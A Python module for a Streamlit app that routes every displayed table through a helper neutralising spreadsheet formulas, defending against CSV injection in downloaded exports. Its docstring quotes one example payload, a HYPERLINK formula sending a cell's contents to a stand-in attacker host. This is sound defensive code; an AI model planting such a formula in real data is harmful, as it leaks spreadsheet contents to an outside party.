"""Tables the UI shows: every text cell is made safe for a spreadsheet before ``st.dataframe`` gets it.

Why: ``st.dataframe``'s toolbar offers "Download as CSV", which writes the cells as they are. A display
name such as ``=HYPERLINK("http://evil.example/?d="&A2,"open")`` — chosen by the invited person — would
then be a live formula in the school's spreadsheet (OWASP "CSV Injection"). The cells get the same
treatment as the project's own CSV exports (``recdraft.domain.csvsafe``): a leading ``'`` where a
spreadsheet would see a formula. Numbers, booleans and dates are left as they are.

Every table of the UI goes through ``dataframe`` below (tests/security checks that no page calls
``st.dataframe`` directly).
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import streamlit as st

from recdraft.domain.csvsafe import is_dangerous, neutralise


def _cell(value: Any) -> Any:
    return neutralise(value) if isinstance(value, str) and is_dangerous(value) else value


def csv_safe(data: Any) -> Any:
    """``data`` (rows as dicts, a dict of columns, a list of lists, a pandas DataFrame) with text cells neutralised."""
    if data is None:
        return None
    if hasattr(data, "map") and hasattr(data, "columns"):  # a pandas DataFrame
        return data.map(_cell)
    if isinstance(data, Mapping):
        return {
            _cell(k): [_cell(v) for v in col] if isinstance(col, list | tuple) else _cell(col)
            for k, col in data.items()
        }
    if isinstance(data, list | tuple):
        return [
            {_cell(k): _cell(v) for k, v in row.items()}
            if isinstance(row, Mapping)
            else [_cell(v) for v in row]
            if isinstance(row, list | tuple)
            else _cell(row)
            for row in data
        ]
    return data


def dataframe(data: Any = None, **kwargs: Any) -> Any:
    """``st.dataframe(data, **kwargs)`` with every text cell (and column name) safe to open in a spreadsheet."""
    return st.dataframe(csv_safe(data), **kwargs)
